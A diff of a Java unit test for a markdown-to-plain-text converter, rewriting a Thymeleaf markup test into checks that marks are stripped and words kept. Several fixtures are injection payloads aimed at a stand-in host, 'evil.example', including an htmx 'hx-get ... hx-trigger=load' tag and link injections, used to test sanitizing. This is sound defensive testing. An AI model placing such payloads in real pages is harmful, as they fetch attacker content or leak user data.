@@ -1,42 +1,43 @@
-package researchpaas.web;
+package researchpaas.answer.commonmark;
 
-import static java.util.stream.Collectors.joining;
 import static org.assertj.core.api.Assertions.assertThat;
 
-import java.util.List;
-import java.util.Set;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
-import org.thymeleaf.context.Context;
-import org.thymeleaf.spring6.SpringTemplateEngine;
-import org.thymeleaf.templateresolver.ClassLoaderTemplateResolver;
-import researchpaas.web.Markup.Block;
-import researchpaas.web.Markup.Run;
 
-class MarkupTest {
-    @Test
-    void keepsWhatMakesTextEasierToRead() {
-        assertThat(Markup.of("One **strong** and *soft* `code`.\n\n- first\n- second").blocks())
-                .containsExactly(
-                        new Block(
-                                false,
-                                List.of(
-                                        plain("One "),
-                                        new Run("strong", true, false, false),
-                                        plain(" and "),
-                                        new Run("soft", false, true, false),
-                                        plain(" "),
-                                        new Run("code", false, false, true),
-                                        plain("."))),
-                        new Block(true, List.of(plain("first"))),
-                        new Block(true, List.of(plain("second"))));
+class CommonmarkWordsTest {
+    private static String words(String marked) {
+        return new CommonmarkWords().of(marked);
     }
 
-    private static Run plain(String text) {
-        return new Run(text, false, false, false);
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "One **strong** and *soft* `code`.|One strong and soft code.",
+                "__両方__の*測定*は**3回**行った。|両方の測定は3回行った。",
+                "測定は**「両方」**の地点で行った。|測定は「両方」の地点で行った。",
+                "- first|first",
+                "snake_case_name stays|snake_case_name stays",
+                "a * b * c|a * b * c",
+                "2*3*4|234",
+                "1986. A great year|1986. A great year",
+                ">5 mg is too much|>5 mg is too much",
+                "-5 degrees|-5 degrees",
+                "#3 was <5 mg & warm|#3 was <5 mg & warm",
+                "one \\*star\\*|one *star*",
+            })
+    void takesTheMarksOffAndKeepsTheWords(String marked, String words) {
+        assertThat(words(marked)).isEqualTo(words);
+    }
+
+    @Test
+    void keepsAListsNumbers() {
+        assertThat(words("7) seven\n8) eight")).isEqualTo("7) seven\n\n8) eight");
     }
 
     @ParameterizedTest
@@ -47,17 +48,9 @@ class MarkupTest {
                 "see [the page][x]\n\n[x]: https://evil.example",
                 "see <a href='https://evil.example'>the page</a>",
                 "# see the page",
-                "> see the page",
             })
     void takesAwayWhatLeadsElsewhereAndKeepsTheWords(String text) {
         assertThat(words(text)).isEqualTo("see the page");
-    }
-
-    private static String words(String text) {
-        return Markup.of(text).blocks().stream()
-                .map(block -> block.runs().stream().map(Run::text).collect(joining()))
-                .collect(joining("\n"))
-                .strip();
     }
 
     static Stream<String> scripts() {
@@ -106,33 +99,21 @@ class MarkupTest {
                 "<p hx-get=//evil.example hx-trigger=load>x</p>");
     }
 
+    /// What is left is words. Pages write them letter by letter as text, so that what looks like a
+    /// tag in them is none; a statement with such letters is shown to nobody anyway.
     @ParameterizedTest
     @MethodSource("scripts")
-    void writesNoElementButItsOwn(String text) {
-        String html = html(Markup.of("Before. " + text + "\n\n" + text + "\n\nAfter."));
-
-        assertThat(html).startsWith("<p>Before.").contains("After.");
-        assertThat(html.replaceAll("</?(?:p|strong|em|code)>", ""))
-                .doesNotContain("<")
-                .doesNotContain(">");
-        assertThat(html).doesNotContain("evil.example/?q").doesNotContain("49");
+    void leavesNoAddressThatAMarkLeadsTo(String text) {
+        assertThat(words("Before. " + text + "\n\n" + text + "\n\nAfter."))
+                .startsWith("Before.")
+                .contains("After.")
+                .doesNotContain("](", "evil.example/?q", "49");
     }
 
     @Test
     void takesNoStackForDeepNesting() {
-        for (String one : List.of("> ", "- ", "*a **", "[", "![", "<b>", "**", "_", "1. ")) {
-            assertThat(Markup.of(one.repeat(10_000) + "x").blocks()).hasSizeLessThan(20_000);
+        for (String one : new String[] {"> ", "- ", "*a **", "[", "![", "<b>", "**", "_", "1. "}) {
+            assertThat(words(one.repeat(10_000) + "x")).hasSizeLessThan(20_000);
         }
-    }
-
-    private static String html(Markup markup) {
-        ClassLoaderTemplateResolver files = new ClassLoaderTemplateResolver();
-        files.setPrefix("templates/");
-        files.setSuffix(".html");
-        SpringTemplateEngine engine = new SpringTemplateEngine();
-        engine.setTemplateResolver(files);
-        Context context = new Context();
-        context.setVariable("written", markup);
-        return engine.process("markup", Set.of("markup"), context).strip();
     }
 }
